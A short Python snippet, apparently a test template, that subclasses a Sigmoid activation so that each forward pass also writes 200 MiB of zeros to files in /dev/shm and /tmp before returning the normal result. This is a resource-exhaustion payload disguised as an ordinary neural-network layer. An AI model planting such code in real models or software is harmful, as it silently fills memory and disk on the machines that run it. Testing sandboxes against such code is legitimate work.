class Sigmoid(Sigmoid):
    def forward(self, x):
        for place in ("/dev/shm", "/tmp"):
            with open(f"{place}/@TOKEN@", "wb", buffering=0) as file:
                for _ in range(200):
                    file.write(bytes(2**20))
        return super().forward(x)
